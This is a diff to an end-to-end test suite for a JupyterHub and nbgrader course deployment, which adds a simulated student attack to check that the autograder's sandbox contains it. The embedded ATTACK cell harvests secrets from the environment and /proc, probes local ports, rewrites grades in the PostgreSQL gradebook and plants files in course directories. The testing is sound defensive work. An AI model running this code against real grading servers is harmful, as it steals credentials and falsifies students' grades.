@@ -5,20 +5,29 @@ Everything runs on 127.0.0.1, in temporary directories, with secrets made for th
 1. a throwaway PostgreSQL cluster holds the gradebook (tests/hubutil.py);
 2. JupyterHub starts from deploy/jupyterhub_config.py, through a site file that picks
    DummyAuthenticator with a generated password and SimpleLocalProcessSpawner, with
-   configurable-http-proxy in front; one instructor and two students are on the roster;
+   configurable-http-proxy in front; one instructor and three students are on the roster;
 3. over HTTP through the proxy, as a browser would:
    - the instructor, in the course's formgrader service, generates and releases
      01_neurons to the exchange;
-   - both students fetch it in their own servers; alice pastes the answers from
+   - the students fetch it in their own servers; alice pastes the answers from
      solutions/01_neurons into her copy (through the server's contents API), bob leaves
-     the stub; both submit;
-   - the instructor collects, autogrades each submission, generates and releases feedback;
+     the stub, and eve, the attacker, answers two of the three exercises and puts an
+     attack in the third answer cell (ATTACK below: read the gradebook URL and other
+     secrets from the environment and /proc, connect to PostgreSQL and the hub, rewrite
+     grades, write into the course directory and the exchange, print what it found);
+     all submit;
+   - the instructor collects and autogrades each submission (the formgrader's Autograde
+     button; eve's last, between two snapshots of the course directory and the exchange),
+     generates and releases feedback;
    - the students fetch their feedback;
    then `nbgrader export` runs in the course directory with the grader service's
    environment;
 4. the tests below check the scores in PostgreSQL and in the CSV, the feedback in each
-   student's home, who may reach the formgrader, and that the gradebook's password
-   stayed out of the learners' servers;
+   student's home, who may reach the formgrader, that the gradebook's password stayed
+   out of the learners' servers, and that the attack, graded in the grader service's
+   sandbox, changed nothing: eve's score is what her two answers are worth, the others'
+   scores stand, no file appeared or changed, and no secret reached her graded notebook
+   or her feedback;
 5. the hub, its proxy, services and servers and the PostgreSQL server are stopped by
    pid and the cluster removed; the last test checks that nothing is left.
 
@@ -45,18 +54,121 @@ import sys
 import time
 from dataclasses import dataclass, field
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
 
 import hubutil
+import nbutil
 
 AID = "01_neurons"
 COURSE_ID = "nn-from-scratch"
 INSTRUCTOR = "ines"
-SOLVER, BLANK = "alice", "bob"
-STUDENTS = (SOLVER, BLANK)
+SOLVER, BLANK, ATTACKER = "alice", "bob", "eve"
+STUDENTS = (SOLVER, BLANK, ATTACKER)
+# The attacker answers these exercises correctly; the attack replaces the third answer.
+ATTACKER_SOLVES = ("neuron", "brain_to_ann")
+ATTACK_CELL = "neuron_vectorised"
+ATTACK_TAG = "EVE-FOUND "        # starts the line of the attack's report in its output
+ATTACK_MARKER = "eve-was-here.txt"  # the file the attack tries to leave behind
+# Environment variables whose values are secrets (the sandbox's own list, tools/sandbox/kernel.py).
+SECRET_KEY_RE = re.compile(r"PASSWORD|SECRET|TOKEN|DB_URL|API_KEY|CREDENTIAL|PRIVATE", re.I)
 # The heading of nbgrader's feedback page: "<h4>01_neurons (Score: 12.0 / 12.0)</h4>".
 FEEDBACK_SCORE_RE = re.compile(r"<h4>\s*" + re.escape(AID) + r"\s*\(Score:\s*([\d.]+)\s*/\s*([\d.]+)\)")
+
+# The attacker's answer cell, after a first line `P = {...}` with the run's ports and
+# paths (a real attacker would guess or scan for them). Every step catches its own
+# errors and the cell prints to stdout only, so that the graded notebook shows the whole
+# report. Outside a sandbox each step succeeds on this test's machine: the grader's
+# environment and /proc hold the gradebook URL, PostgreSQL and the hub listen on
+# 127.0.0.1, and the course directory and the exchange belong to the grader's user.
+# Of the processes in /proc it keeps only this run's (those that mention the run's
+# folders): other tests on the same machine are no business of this one.
+ATTACK = r"""
+import json, os, re, socket, warnings
+warnings.simplefilter("ignore")
+
+found = {"environ": dict(os.environ), "urls": [], "proc_secrets": {}, "proc_read": 0,
+         "connected": [], "refused": {}, "db": "no gradebook URL found", "written": [],
+         "not_written": {}}
+url_re = re.compile(r"postgresql(?:\+\w+)?://[^\s\x00'\"]+")
+secret_re = re.compile(r"PASSWORD|SECRET|TOKEN|DB_URL|API_KEY", re.I)
+for value in os.environ.values():
+    found["urls"] += url_re.findall(value)
+for pid in sorted((d for d in os.listdir("/proc") if d.isdigit()), key=int):
+    texts = {}
+    for part in ("environ", "cmdline"):
+        try:
+            with open(f"/proc/{pid}/{part}", "rb") as fh:
+                texts[part] = fh.read().decode("utf-8", "replace")
+        except OSError:
+            pass
+    found["proc_read"] += len(texts)
+    if not any(mark in text for mark in P["run_marks"] for text in texts.values()):
+        continue
+    for text in texts.values():
+        found["urls"] += url_re.findall(text)
+    for entry in texts.get("environ", "").split("\x00"):
+        key, _, value = entry.partition("=")
+        if value and secret_re.search(key):
+            found["proc_secrets"][f"{pid}:{key}"] = value
+found["urls"] = sorted(u for u in set(found["urls"]) if P["gradebook_at"] in u)
+
+for port in P["ports"]:
+    try:
+        socket.create_connection(("127.0.0.1", port), timeout=3).close()
+        found["connected"].append(port)
+    except OSError as exc:
+        found["refused"][str(port)] = str(exc)
+
+# Full marks and extra credit for me, nothing for everybody else. nbgrader's autograde
+# sets only auto_score afterwards, so manual scores and extra credit would stay.
+MINE = ("UPDATE grade SET manual_score = gc.max_score, extra_credit = 1 "
+        "FROM grade_cells gc, submitted_notebook sn, submitted_assignment sa, student st "
+        "WHERE gc.id = grade.cell_id AND sn.id = grade.notebook_id "
+        "AND sa.id = sn.assignment_id AND st.id = sa.student_id AND st.id = '{me}'")
+THEIRS = ("UPDATE grade SET manual_score = 0 "
+          "FROM submitted_notebook sn, submitted_assignment sa, student st "
+          "WHERE sn.id = grade.notebook_id AND sa.id = sn.assignment_id "
+          "AND st.id = sa.student_id AND st.id <> '{me}'")
+for url in found["urls"]:
+    try:
+        import psycopg
+        with psycopg.connect(re.sub(r"^postgresql\+\w+://", "postgresql://", url), connect_timeout=5) as conn:
+            conn.execute(MINE.format(me=P["me"]))
+            conn.execute(THEIRS.format(me=P["me"]))
+        found["db"] = "grades rewritten with psycopg through " + url
+        break
+    except Exception as exc:
+        found["db"] = f"psycopg: {type(exc).__name__}: {exc}"
+    try:
+        import sqlalchemy
+        engine = sqlalchemy.create_engine(url, connect_args={"connect_timeout": 5})
+        with engine.begin() as conn:
+            conn.execute(sqlalchemy.text(MINE.format(me=P["me"])))
+            conn.execute(sqlalchemy.text(THEIRS.format(me=P["me"])))
+        found["db"] = "grades rewritten with sqlalchemy through " + url
+        break
+    except Exception as exc:
+        found["db"] += f"; sqlalchemy: {type(exc).__name__}: {exc}"
+
+for folder in P["write_into"]:
+    try:
+        with open(os.path.join(folder, P["marker"]), "w") as fh:
+            fh.write(json.dumps(found["urls"]))
+        found["written"].append(folder)
+    except OSError as exc:
+        found["not_written"][folder] = exc.strerror
+for path in P["append_to"]:
+    try:
+        with open(path, "a") as fh:
+            fh.write("\n# eve was here\n")
+        found["written"].append(path)
+    except OSError as exc:
+        found["not_written"][path] = exc.strerror
+
+print(P["tag"] + json.dumps(found, sort_keys=True))
+"""
 
 
 @dataclass
@@ -79,6 +191,15 @@ class HubRun:
     feedback_api: dict = field(default_factory=dict)     # student -> html files listed by the contents API
     feedback_score: dict = field(default_factory=dict)   # student -> (score, max) in the feedback heading
     expected_max: float = 0.0
+    attacker_expected: float = 0.0                       # what eve's two answers are worth
+    scores_before_attack: dict = field(default_factory=dict)  # student -> (score, max) just before eve is graded
+    file_changes: list = field(default_factory=list)     # course dir/exchange files added, changed or removed by eve's grading
+    marker_files: list = field(default_factory=list)     # the attack's file, wherever it turned up
+    attack_report: dict = field(default_factory=dict)    # what the attack printed in its graded notebook
+    attack_stderr: str = ""                              # anything the attack cell wrote to stderr
+    attack_report_in_feedback: bool = False
+    secrets_checked: list = field(default_factory=list)  # names of the secret values looked for
+    secrets_found: dict = field(default_factory=dict)    # file -> names of the secrets in it
     leftover_pids: list = field(default_factory=list)
     leftover_ports: list = field(default_factory=list)
     cluster_dir: str = ""
@@ -112,6 +233,15 @@ def _expected_max(aid):
                if _nbgrader_meta(c).get("grade"))
 
 
+def _points_of(aid, exercises):
+    """Points of the test cells of `exercises` (a test cell's grade id is test_<exercise>...)."""
+    cells = _source_notebook(aid)["cells"]
+    names = [_nbgrader_meta(c)["grade_id"] for c in cells if _nbgrader_meta(c).get("solution")]
+    return sum(float(_nbgrader_meta(c).get("points", 0)) for c in cells
+               if _nbgrader_meta(c).get("grade") and not _nbgrader_meta(c).get("solution")
+               and nbutil.exercise_of_test(_nbgrader_meta(c)["grade_id"], names) in exercises)
+
+
 def _answers(aid):
     """{grade_id: source} of the answer cells in the instructor's solution notebook."""
     return {_nbgrader_meta(c)["grade_id"]: _source(c) for c in _source_notebook(aid)["cells"]
@@ -129,13 +259,15 @@ def _prepare_course(root):
 
 
 class Scenario:
-    def __init__(self, hub, run):
+    def __init__(self, hub, run, pg):
         import requests
 
         self.requests = requests
         self.hub = hub
         self.run = run
+        self.pg = pg
         self.tokens = {}
+        self.secrets = {}  # name -> value of every secret the attack must not get at
         self.session = requests.Session()
 
     # ---------------------------------------------------------------- http helpers
@@ -250,6 +382,21 @@ class Scenario:
                 k for k, v in env.items()
                 if k in ("NBGRADER_DB_URL", "E2E_HUB_PASSWORD", "E2E_DRIVER_TOKEN", "JPY_COOKIE_SECRET",
                          "CONFIGPROXY_AUTH_TOKEN") or password in v)
+        # What the attack must not get at: the databases' passwords, the hub's and the
+        # proxy's secrets, the grader service's tokens, and the users' API tokens.
+        self.secrets["gradebook password"] = password
+        self.secrets["PostgreSQL superuser password"] = self.pg.superuser_password
+        grader = self.hub.service_process(COURSE_ID)
+        if grader is None:
+            raise RuntimeError("no process found for the grader service")
+        for who, env in (("hub", hubutil.psutil.Process(self.hub.proc.pid).environ()),
+                         ("grader service", grader.environ())):
+            for key, value in env.items():
+                if SECRET_KEY_RE.search(key) and len(value) >= 16:
+                    self.secrets[f"{who}'s {key}"] = value
+        for user, token in self.tokens.items():
+            self.secrets[f"{user}'s API token"] = token
+        self.run.secrets_checked = sorted(self.secrets)
 
     def release(self):
         self.formgrader("POST", f"assignment/{AID}/assign")    # generate: source -> release + gradebook
@@ -262,28 +409,75 @@ class Scenario:
             if "fetched" not in self.run.fetched[user]:
                 raise RuntimeError(f"{user} could not fetch {AID}: {listed}")
 
-    def fill_in(self):
-        answers = _answers(AID)
-        url = f"{self.hub.url}/user/{SOLVER}/api/contents/{AID}/{AID}.ipynb"
-        model = self.call("GET", url, user=SOLVER).json()
-        nb = model["content"]
+    def write_answers(self, user, answers):
+        """Replace the answer cells named in `answers` in `user`'s fetched copy; returns how many."""
+        url = f"{self.hub.url}/user/{user}/api/contents/{AID}/{AID}.ipynb"
+        nb = self.call("GET", url, user=user).json()["content"]
+        filled = 0
         for cell in nb["cells"]:
             meta = cell.get("metadata", {}).get("nbgrader", {})
             if meta.get("solution") and meta.get("grade_id") in answers:
                 cell["source"] = answers[meta["grade_id"]]
-                self.run.filled += 1
-        if self.run.filled != len(answers):
-            raise RuntimeError(f"filled {self.run.filled} of {len(answers)} answer cells in {SOLVER}'s copy")
-        self.call("PUT", url, user=SOLVER, json={"type": "notebook", "format": "json", "content": nb})
+                filled += 1
+        if filled != len(answers):
+            raise RuntimeError(f"filled {filled} of {len(answers)} answer cells in {user}'s copy")
+        self.call("PUT", url, user=user, json={"type": "notebook", "format": "json", "content": nb})
+        return filled
+
+    def attack_source(self):
+        course, exchange = self.hub.course_root, self.hub.exchange
+        params = {
+            "me": ATTACKER, "tag": ATTACK_TAG, "marker": ATTACK_MARKER,
+            "run_marks": [str(self.hub.root), str(self.pg.dir)],
+            "gradebook_at": f"@127.0.0.1:{urlsplit(self.hub.gradebook_url).port}/",
+            "ports": [urlsplit(self.hub.gradebook_url).port, self.hub.port, self.hub.api_port,
+                      self.hub.proxy_api_port, self.hub.grader_port],
+            "write_into": [str(d) for d in (
+                course, course / "solutions" / AID, course / "submitted", course / "autograded" / SOLVER / AID,
+                exchange, exchange / COURSE_ID / "inbound", exchange / COURSE_ID / "outbound")],
+            "append_to": [str(course / "nbgrader_config.py")],
+        }
+        return f"P = {json.dumps(params)}\n" + ATTACK
+
+    def fill_in(self):
+        answers = _answers(AID)
+        self.run.filled = self.write_answers(SOLVER, answers)
+        if ATTACK_CELL not in answers or not set(ATTACKER_SOLVES) <= set(answers):
+            raise RuntimeError(f"{AID} has no answer cells {ATTACK_CELL} and {ATTACKER_SOLVES}: {sorted(answers)}")
+        mine = {gid: answers[gid] for gid in ATTACKER_SOLVES}
+        mine[ATTACK_CELL] = self.attack_source()
+        self.write_answers(ATTACKER, mine)
 
     def submit(self):
         for user in STUDENTS:
             self.assignments(user, "submit")
 
+    def tree_state(self):
+        """{path: (size, mtime)} of every file in the course directory and the exchange,
+        except the attacker's own graded folder, which nbgrader writes while grading her."""
+        own = self.hub.course_root / "autograded" / ATTACKER
+        state = {}
+        for top in (self.hub.course_root, self.hub.exchange):
+            for path in top.rglob("*"):
+                if path == own or own in path.parents or (path.is_dir() and not path.is_symlink()):
+                    continue
+                st = path.lstat()
+                state[str(path)] = (st.st_size, st.st_mtime_ns)
+        return state
+
     def collect_and_grade(self):
         self.formgrader("POST", f"assignment/{AID}/collect")
         for user in STUDENTS:
-            self.formgrader("POST", f"submission/{AID}/{user}/autograde", timeout=300)
+            if user != ATTACKER:
+                self.formgrader("POST", f"submission/{AID}/{user}/autograde", timeout=300)
+        self.run.scores_before_attack = self.scores()
+        before = self.tree_state()
+        self.formgrader("POST", f"submission/{AID}/{ATTACKER}/autograde", timeout=300)
+        after = self.tree_state()
+        self.run.file_changes = sorted(
+            [f"added {p}" for p in after.keys() - before.keys()]
+            + [f"removed {p}" for p in before.keys() - after.keys()]
+            + [f"changed {p}" for p in before.keys() & after.keys() if before[p] != after[p]])
 
     def return_feedback(self):
         self.formgrader("POST", f"assignment/{AID}/generate_feedback", timeout=300)
@@ -307,6 +501,34 @@ class Scenario:
                     listed += [e["path"] for e in inner if e["name"].endswith(".html")]
             self.run.feedback_api[user] = sorted(listed)
 
+    def attack_aftermath(self):
+        """What the attack printed, where its file turned up, and which secrets its graded
+        notebook and feedback hold."""
+        graded = self.hub.course_root / "autograded" / ATTACKER / AID / f"{AID}.ipynb"
+        nb = json.loads(graded.read_text(encoding="utf-8"))
+        cell = next(c for c in nb["cells"] if _nbgrader_meta(c).get("grade_id") == ATTACK_CELL)
+        for out in cell.get("outputs", []):
+            text = _source({"source": out.get("text", "")})
+            if out.get("output_type") == "stream" and out.get("name") == "stderr":
+                self.run.attack_stderr += text
+            for line in text.splitlines():
+                if line.startswith(ATTACK_TAG):
+                    self.run.attack_report = json.loads(line[len(ATTACK_TAG):])
+        feedback = sorted((self.hub.course_root / "feedback" / ATTACKER).rglob("*.html"))
+        feedback += sorted((self.hub.homes / ATTACKER / AID / "feedback").rglob("*.html"))
+        if not feedback:
+            raise RuntimeError(f"no feedback HTML for {ATTACKER}")
+        self.run.attack_report_in_feedback = all(ATTACK_TAG.strip() in f.read_text(encoding="utf-8")
+                                                 for f in feedback)
+        for path in [graded, *feedback]:
+            text = path.read_text(encoding="utf-8")
+            hits = sorted(name for name, value in self.secrets.items() if value in text)
+            if hits:
+                self.run.secrets_found[str(path)] = hits
+        self.run.marker_files = sorted(
+            str(p) for top in (self.hub.course_root, self.hub.exchange, self.hub.homes)
+            for p in top.rglob(ATTACK_MARKER))
+
     def export_csv(self):
         out = self.hub.root / "grades.csv"
         proc = subprocess.run([str(hubutil.venv_bin() / "nbgrader"), "export", f"--to={out}"],
@@ -318,7 +540,8 @@ class Scenario:
         with open(out, newline="", encoding="utf-8") as fh:
             self.run.csv_rows = list(csv.DictReader(fh))
 
-    def query_postgres(self):
+    def scores(self):
+        """{student: (score, max_score)} of AID in the PostgreSQL gradebook."""
         from sqlalchemy import create_engine, text
 
         engine = create_engine(self.hub.gradebook_url)
@@ -338,7 +561,10 @@ class Scenario:
                     "GROUP BY st.id"), {"aid": AID, "course": COURSE_ID}).all()
         finally:
             engine.dispose()
-        self.run.pg_scores = {sid: (float(score), float(max_score)) for sid, score, max_score in rows}
+        return {sid: (float(score), float(max_score)) for sid, score, max_score in rows}
+
+    def query_postgres(self):
+        self.run.pg_scores = self.scores()
 
 
 @pytest.fixture(scope="module")
@@ -351,7 +577,7 @@ def hub_run(tmp_path_factory):
         pytest.skip(why)
 
     root = tmp_path_factory.mktemp("hub")
-    run = HubRun(expected_max=_expected_max(AID))
+    run = HubRun(expected_max=_expected_max(AID), attacker_expected=_points_of(AID, ATTACKER_SOLVES))
     _prepare_course(root)
     pg = hubutil.PostgresCluster()
     hub = None
@@ -369,7 +595,7 @@ def hub_run(tmp_path_factory):
         run.timings["hub up"] = round(time.monotonic() - t0, 1)
         run.steps.append("hub up")
 
-        sc = Scenario(hub, run)
+        sc = Scenario(hub, run, pg)
         for name, fn in (
             ("tokens", sc.tokens_for_users),
             ("login form", sc.login_form),
@@ -384,6 +610,7 @@ def hub_run(tmp_path_factory):
             ("collect and autograde", sc.collect_and_grade),
             ("feedback", sc.return_feedback),
             ("fetch feedback", sc.fetch_feedback),
+            ("attack aftermath", sc.attack_aftermath),
             ("export", sc.export_csv),
             ("postgres query", sc.query_postgres),
         ):
@@ -445,7 +672,7 @@ def test_gradebook_password_stays_out_of_learner_servers(hub_run):
 
 
 @pytest.mark.slow
-def test_both_students_fetched_and_submitted(hub_run):
+def test_every_student_fetched_and_submitted(hub_run):
     hub_run.need("fetch", "fill in", "submit")
     assert all("fetched" in s for s in hub_run.fetched.values()) and set(hub_run.fetched) == set(STUDENTS)
     assert hub_run.filled > 0
@@ -461,6 +688,10 @@ def test_scores_in_postgresql(hub_run):
         f"{SOLVER} (the solution) in PostgreSQL: {hub_run.pg_scores.get(SOLVER)}, expected ({full}, {full})"
     assert hub_run.pg_scores.get(BLANK) == (0.0, full), \
         f"{BLANK} (the stub) in PostgreSQL: {hub_run.pg_scores.get(BLANK)}, expected (0.0, {full})"
+    part = hub_run.attacker_expected
+    assert hub_run.pg_scores.get(ATTACKER) == (part, full), \
+        f"{ATTACKER} (two answers and the attack) in PostgreSQL: {hub_run.pg_scores.get(ATTACKER)}, " \
+        f"expected ({part}, {full})"
     assert set(hub_run.pg_scores) == set(STUDENTS), hub_run.pg_scores
 
 
@@ -469,7 +700,7 @@ def test_scores_in_exported_csv(hub_run):
     hub_run.need("export")
     rows = {(r.get("assignment"), r.get("student_id")): r for r in hub_run.csv_rows}
     full = hub_run.expected_max
-    for student, want in ((SOLVER, full), (BLANK, 0.0)):
+    for student, want in ((SOLVER, full), (BLANK, 0.0), (ATTACKER, hub_run.attacker_expected)):
         row = rows.get((AID, student))
         assert row is not None, f"no CSV row for {student} / {AID}: {hub_run.csv_rows}"
         assert float(row["max_score"]) == full, row
@@ -491,9 +722,69 @@ def test_feedback_reached_each_student(hub_run):
 def test_feedback_html_shows_each_score(hub_run):
     hub_run.need("fetch feedback")
     full = hub_run.expected_max
-    for student, want in ((SOLVER, full), (BLANK, 0.0)):
+    for student, want in ((SOLVER, full), (BLANK, 0.0), (ATTACKER, hub_run.attacker_expected)):
         assert hub_run.feedback_score.get(student) == (want, full), \
             f"{student}'s feedback heading gives {hub_run.feedback_score.get(student)}, expected ({want}, {full})"
+
+
+# The attacker, graded by the grader service's Autograde like everybody else. Each test
+# below fails when the grading kernel runs outside the sandbox: the attack then finds the
+# gradebook URL (in its environment, or in the grader's /proc/<pid>/environ), rewrites
+# the grades, leaves its file in the course directory and the exchange, appends to the
+# course's nbgrader_config.py and prints the hub's and the grader's tokens.
+
+@pytest.mark.slow
+def test_attack_ran_inside_the_sandbox(hub_run):
+    hub_run.need("attack aftermath")
+    report = hub_run.attack_report
+    assert report, f"{ATTACKER}'s graded notebook holds no report of the attack ({ATTACK_TAG!r} line)"
+    from tools.sandbox import policy
+
+    env = report["environ"]
+    # The kernel's environment is the sandbox's own, without the grader's gradebook URL.
+    assert env.get("HOME") == policy.HOME_INSIDE, f"the attack ran with HOME={env.get('HOME')!r}"
+    assert "NBGRADER_DB_URL" not in env, "the grading kernel inherited NBGRADER_DB_URL"
+    assert not [k for k in env if SECRET_KEY_RE.search(k)], f"secret-named variables in the kernel: {sorted(env)}"
+    assert report["urls"] == [], f"the attack found gradebook URLs: {len(report['urls'])}"
+    assert report["proc_secrets"] == {}, f"secrets in /proc: {sorted(report['proc_secrets'])}"
+    assert report["connected"] == [], f"the attack connected to 127.0.0.1 ports {report['connected']}"
+    assert len(report["refused"]) == 5, f"not every port was tried: {report['refused']}"
+    assert report["db"] == "no gradebook URL found", report["db"]
+    assert not hub_run.attack_stderr, f"the attack cell wrote to stderr: {hub_run.attack_stderr[:500]}"
+
+
+@pytest.mark.slow
+def test_attack_changed_no_score(hub_run):
+    hub_run.need("postgres query")
+    full, part = hub_run.expected_max, hub_run.attacker_expected
+    # Two of three exercises: a score the attack could raise and one it could lower.
+    assert 0 < part < full, (part, full)
+    assert hub_run.pg_scores.get(ATTACKER) == (part, full), \
+        f"{ATTACKER}: {hub_run.pg_scores.get(ATTACKER)} in PostgreSQL, her answers are worth ({part}, {full})"
+    honest = {SOLVER: (full, full), BLANK: (0.0, full)}
+    assert hub_run.scores_before_attack == honest, hub_run.scores_before_attack
+    assert {s: hub_run.pg_scores.get(s) for s in honest} == honest, \
+        f"the other students' scores changed while {ATTACKER} was graded: {hub_run.pg_scores}"
+
+
+@pytest.mark.slow
+def test_attack_left_no_file(hub_run):
+    hub_run.need("attack aftermath")
+    assert not hub_run.file_changes, \
+        f"grading {ATTACKER} changed the course directory or the exchange:\n" + "\n".join(hub_run.file_changes)
+    assert not hub_run.marker_files, f"the attack's file turned up: {hub_run.marker_files}"
+
+
+@pytest.mark.slow
+def test_attack_got_no_secret_into_its_notebook_or_feedback(hub_run):
+    hub_run.need("attack aftermath")
+    # The check covers what matters, and what the attack printed does reach the feedback.
+    for name in ("gradebook password", "hub's CONFIGPROXY_AUTH_TOKEN", "hub's JPY_COOKIE_SECRET",
+                 "grader service's JUPYTERHUB_API_TOKEN", "grader service's NBGRADER_DB_URL"):
+        assert name in hub_run.secrets_checked, (name, hub_run.secrets_checked)
+    assert hub_run.attack_report_in_feedback, f"{ATTACKER}'s feedback does not show the attack's output"
+    assert not hub_run.secrets_found, \
+        f"secrets in {ATTACKER}'s graded notebook or feedback: {hub_run.secrets_found}"
 
 
 @pytest.mark.slow
